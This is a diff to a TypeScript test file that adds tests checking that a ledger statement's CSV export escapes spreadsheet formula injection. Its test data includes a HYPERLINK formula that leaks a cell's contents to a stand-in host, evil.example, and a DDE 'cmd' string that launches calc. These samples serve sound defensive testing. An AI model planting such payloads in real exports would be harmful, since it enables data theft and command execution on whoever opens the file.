@@ -180,7 +180,7 @@ describe('a statement', () => {
             l.id,
             l.createdAt,
             l.entryType,
-            l.reference ?? '',
+            spreadsheetText(l.reference ?? ''),
             formatAmount(l.amount),
             formatAmount(l.balanceAfter),
             formatAmount(l.balanceAfter - l.reservedAfter),
@@ -192,6 +192,54 @@ describe('a statement', () => {
       }),
       { numRuns: RUNS / 4 },
     );
+  });
+});
+
+/** What a reference becomes in the CSV: text that would start a formula gets a leading quote (csv-stringify's escape_formulas). */
+const spreadsheetText = (text: string) => (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text) ? `'${text}` : text);
+
+describe('a statement as CSV, opened in a spreadsheet', () => {
+  const entry = (step: Partial<Step>): Step => ({
+    entryType: 'credit',
+    magnitude: 150n,
+    refund: false,
+    gap: 1,
+    reference: null,
+    grantCategory: null,
+    ...step,
+  });
+
+  it('shows a reference that would run as a formula as text: a leading quote, then the reference as written', () => {
+    const hostile = [
+      '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")',
+      '+1+1',
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+      '\uFF1D1+1',
+    ];
+    const chain = chainOf([...hostile, 'pay_123 = 4 - 1', 'refund -5'].map((reference) => entry({ reference })));
+    const rows = parse(statementCsv(statementOf(chain, instant(0), instant(1_000))), { columns: true }) as Record<string, string>[];
+    expect(rows.filter((r) => r.row === 'entry').map((r) => r.reference)).toEqual([
+      ...hostile.map((r) => `'${r}`),
+      'pay_123 = 4 - 1',
+      'refund -5',
+    ]);
+  });
+
+  it('keeps a negative amount a number: -0.000150 unquoted and unescaped, as every amount and count', () => {
+    const chain = chainOf([entry({ entryType: 'adjustment', reference: '-0.000150' })]);
+    const csv = statementCsv(statementOf(chain, instant(0), instant(1_000)));
+    expect(csv.split('\r\n')).toEqual([
+      'row,created_at,entry_type,job_id,settlement_key,reference,amount,balance_after,reserved_after,available_after,sequence,entry_id,count,balance_change,reserved_change',
+      `opening,${instant(0)},,,,,,0.000000,0.000000,0.000000,,,,,`,
+      // the amounts are numbers; the same characters as a reference are text, and escaped
+      `entry,${instant(1)},adjustment,job-0,t:job-0:adjustment:1,'-0.000150,-0.000150,-0.000150,0.000000,-0.000150,1,entry-1,,,`,
+      `closing,${instant(1_000)},,,,,,-0.000150,0.000000,-0.000150,,,,,`,
+      'total,,adjustment,,,,-0.000150,,,,,,1,-0.000150,0.000000',
+      '',
+    ]);
   });
 });
 
